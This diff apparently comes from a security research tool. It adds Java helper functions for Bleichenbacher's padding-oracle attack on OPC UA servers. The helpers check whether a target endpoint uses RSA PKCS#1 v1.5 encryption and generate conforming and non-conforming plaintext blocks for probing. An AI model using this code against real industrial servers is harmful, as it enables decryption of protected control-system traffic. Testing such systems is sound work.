@@ -0,0 +1,78 @@
+package attacks.bleichenbacher;
+
+import attacks.manger.oracle.OracleException;
+import opcua.context.Endpoint;
+import opcua.security.MessageSecurityMode;
+import opcua.security.SecurityAlgorithm;
+
+import java.math.BigInteger;
+import java.security.SecureRandom;
+import java.security.interfaces.RSAPublicKey;
+
+/**
+ * Provides utility functions regarding Bleichenbacher's attack
+ */
+public class BleichenbacherUtility {
+
+    /**
+     * Throws oracle exception if given endpoint is not suitable for Bleichenbacher's attack
+     * @param endpoint Endpoint to test
+     * @throws OracleException
+     */
+    public static void throwIfSecurityConfigurationUnsupported(Endpoint endpoint) throws OracleException {
+        if(endpoint.getMessageSecurityMode() != MessageSecurityMode.SIGN_AND_ENCRYPT) {
+            throw new OracleException("Invalid message security mode");
+        }
+        if(endpoint.getSecurityPolicy().getAsymmetricEncryption() != SecurityAlgorithm.RSA_15) {
+            throw new OracleException("Invalid security policy");
+        }
+    }
+
+    /**
+     * Computes B = 2^(8(k-2)) (See original paper of Bleichenbacher's attack)
+     * @param publicKey Public key of the target server
+     * @return B
+     */
+    public static BigInteger computeB(RSAPublicKey publicKey) {
+        int blockBitLength = publicKey.getModulus().bitLength();
+        return BigInteger.ONE.shiftLeft(blockBitLength-16);
+    }
+
+    /**
+     * Generates a random PKCS#1 conforming plaintext block (0x00 || 0x02 || PS || 0x00 || M)
+     * @param publicKey Public key of the target server
+     * @return PKCS#1 conforming block
+     */
+    public static byte[] generateConformingPlaintext(RSAPublicKey publicKey) {
+        int blockSize = publicKey.getModulus().bitLength() / 8;
+        SecureRandom secureRandom = new SecureRandom();
+        byte[] plainBlock = new byte[blockSize];
+        secureRandom.nextBytes(plainBlock);
+        plainBlock[0] = (byte)0;
+        plainBlock[1] = (byte)2;
+        for(int i=2; i<10; i++) {
+            while(plainBlock[i] == 0) {
+                plainBlock[i] = (byte)secureRandom.nextInt(256);
+            }
+        }
+        plainBlock[10 + secureRandom.nextInt(blockSize - 11)] = (byte)0;
+        return plainBlock;
+    }
+
+    /**
+     * Generates a random plaintext block that does not start with 0x00 0x02
+     * @param publicKey Public key of the target server
+     * @return Non-conforming block
+     */
+    public static byte[] generateNonConformingPlaintext(RSAPublicKey publicKey) {
+        int blockSize = publicKey.getModulus().bitLength() / 8;
+        SecureRandom secureRandom = new SecureRandom();
+        byte[] plainBlock = new byte[blockSize];
+        secureRandom.nextBytes(plainBlock);
+        plainBlock[0] = (byte)0;
+        while(plainBlock[1] == 2) {
+            plainBlock[1] = (byte)secureRandom.nextInt(256);
+        }
+        return plainBlock;
+    }
+}